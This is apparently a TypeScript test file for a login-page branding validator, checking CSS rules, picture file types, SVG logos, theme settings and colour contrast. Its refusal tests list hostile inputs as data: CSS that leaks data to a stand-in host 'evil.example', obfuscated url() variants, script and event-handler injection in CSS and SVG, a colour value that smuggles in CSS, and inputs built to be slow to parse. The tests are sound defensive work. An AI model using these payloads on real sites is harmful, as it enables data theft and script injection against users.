/** What may stand in a branding, and what must not. */
import { expect, test } from "vitest";
import { readClassicCss } from "./classic-css.ts";
import { coloursOf, contrast, readableOn, unreadablePairs } from "./contrast.ts";
import { houseSettings } from "./house-colours.ts";
import { classicExtension, isPicture } from "./picture.ts";
import { readStyle } from "./style.ts";

test("CSS for Cognito's classes is read as rules", () => {
  const css = `/* ours */ .submitButton-customizable { background-color: #00f; color: white !important; }
    .submitButton-customizable:hover, .label-customizable { font-weight: 400 }`;
  expect(readClassicCss(css)).toEqual({
    ok: true,
    rules: [
      {
        className: "submitButton-customizable",
        state: "",
        declarations: [
          ["background-color", "#00f"],
          ["color", "white !important"],
        ],
      },
      { className: "submitButton-customizable", state: ":hover", declarations: [["font-weight", "400"]] },
      { className: "label-customizable", state: "", declarations: [["font-weight", "400"]] },
    ],
  });
  expect(readClassicCss(" ")).toEqual({ ok: true, rules: [] });
});

test.each([
  "@import url(https://evil.example/a.css);",
  "@media screen { .label-customizable { color: red } }",
  ".label-customizable { background: url(https://evil.example/?leak) }",
  ".label-customizable { background: u\\72l(//evil.example) }",
  ".label-customizable { background: URL ('//evil.example') }",
  ".label-customizable { background: image-set('//evil.example' 1x) }",
  ".label-customizable { background: ima/**/ge-set('//evil.example' 1x); } @x",
  ".label-customizable { width: expression(alert(1)) }",
  ".label-customizable { color: red } </style><script>alert(1)</script>",
  "body { display: none }",
  "* { color: red }",
  ".label-customizable input[value^=a] { color: red }",
  ".label-customizable::after { content: 'x' }",
  ".label-customizable { color: red",
  ".label-customizable { color: red }} .label-customizable { color: blue }",
  ".label-customizable { .x { color: red } }",
  ".label-customizable { color }",
  ".label-customizable { color: red; ; x y: z }",
  ".label-customizable { color: attr(value) }",
  '.label-customizable { font-family: "a; color: red }',
  ".label-customizable { background: paint(x) }",
  ".label-customizable { background: url/**/(//evil.example) }",
  ".unknown-customizable { color: red }",
  "color: red",
])("HP-03: the CSS %s is refused", (css) => {
  expect(readClassicCss(css).ok).toBe(false);
});

/** Each would take from half a minute to for ever where a pattern tried every way to read it. */
const wide = 131_000;

test.each([
  "a".repeat(wide),
  "/* ".repeat(wide / 3),
  `.label-customizable { color:${" ".repeat(wide)}}`,
  `.label-customizable { color: red${" ".repeat(wide)}(x) }`,
])("CSS that is made to be slow to read is refused like any other", (css) => {
  expect(readClassicCss(css).ok).toBe(false);
});

const png = Uint8Array.of(0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 1);
const text = (content: string) => new TextEncoder().encode(content);

test("a picture is known by its first bytes", () => {
  expect(classicExtension(png)).toBe("PNG");
  expect(classicExtension(Uint8Array.of(0xff, 0xd8, 0xff, 0xe0))).toBe("JPEG");
  expect(classicExtension(text("GIF89a"))).toBeUndefined();
  expect(isPicture(text("RIFF1234WEBPVP8 "), "WEBP")).toBe(true);
  expect(isPicture(text("RIFF1234WAVEfmt "), "WEBP")).toBe(false);
  expect(isPicture(Uint8Array.of(0, 0, 1, 0, 1), "ICO")).toBe(true);
  expect(isPicture(png, "JPEG")).toBe(false);
  expect(isPicture(text("<html>"), "PNG")).toBe(false);
});

test.each([
  ["<svg xmlns='http://www.w3.org/2000/svg'><path d='M0 0'/></svg>", true],
  ["<?xml version='1.0'?><!-- logo --><svg/>", true],
  ["<svg><script>alert(1)</script></svg>", false],
  ["<svg onload=alert(1)>", false],
  ["<svg><a href='javascript:alert(1)'/></svg>", false],
  ["<!DOCTYPE svg [<!ENTITY x 'y'>]><svg/>", false],
  ["<svg><foreignObject/></svg>", false],
  ["<html><svg/></html>", false],
])("HP-03: the drawing %s is taken: %s", (content, isTaken) => {
  expect(isPicture(text(content), "SVG")).toBe(isTaken);
});

test.each([" ".repeat(wide), "<!---->".repeat(wide / 7), "<!--".repeat(wide / 4)])(
  "a drawing that is made to be slow to read is none",
  (content) => {
    expect(isPicture(text(content), "SVG")).toBe(false);
  },
);

test("a Settings document gives colours, corners and the scheme, and keeps what means nothing here", () => {
  const settings = {
    components: {
      primaryButton: { lightMode: { defaults: { backgroundColor: "FFCC00ff" } } },
      form: { borderRadius: 0, logo: { enabled: false, location: "CENTER" } },
      somethingNew: { x: 1 },
    },
    categories: { global: { colorSchemeMode: "DARK" } },
  };
  const read = readStyle(settings);
  expect(read).toMatchObject({
    ok: true,
    style: {
      scheme: "DARK",
      light: { button: "#ffcc00ff" },
      radius: { form: 0 },
      logo: { isShown: false, place: "center" },
    },
  });
  if (!read.ok) return;
  expect(coloursOf(read.style, "light").onButton).toBe("#000000");
  expect(unreadablePairs(read.style)).toEqual([]);
  expect(readStyle(null)).toMatchObject({ ok: true });
});

test.each([
  ["components.pageBackground.lightMode.color", "red"],
  ["components.pageBackground.lightMode.color", "ffffff}body{x:y"],
  ["components.pageText.darkMode.bodyColor", "url(//evil)"],
  ["components.form.borderRadius", "8px"],
  ["components.form.borderRadius", 1e9],
  ["componentClasses.link.lightMode.defaults.textColor", 7],
  ["categories.global.colorSchemeMode", "BLUE"],
])("HP-03: a document with %s: %j is refused by that name", (path, value) => {
  const settings = path.split(".").reduceRight<unknown>((inner, name) => ({ [name]: inner }), value);
  expect(readStyle(settings)).toEqual({ ok: false, path });
});

test("what is hard to read is named, with its contrast", () => {
  expect(contrast("#000000", "#ffffff")).toBeCloseTo(21);
  expect(readableOn("#ffff00")).toBe("#000000");
  const read = readStyle({ components: { pageText: { lightMode: { bodyColor: "dddddd" } } } });
  expect(read.ok && unreadablePairs(read.style)).toEqual([
    "light text on background, 1.3 : 1",
    "light text on surface, 1.4 : 1",
    "light heading on surface, 1.4 : 1",
  ]);
});

test("the house's own colours, as a document, are what it looks like without one", () => {
  const read = readStyle(houseSettings());
  const plain = readStyle(null);
  if (!read.ok || !plain.ok) throw new Error("the house's own document is refused");
  expect(unreadablePairs(read.style)).toEqual([]);
  expect(coloursOf(read.style, "dark").primary).toBe(
    `${coloursOf(plain.style, "dark").primary.toLowerCase()}ff`,
  );
});
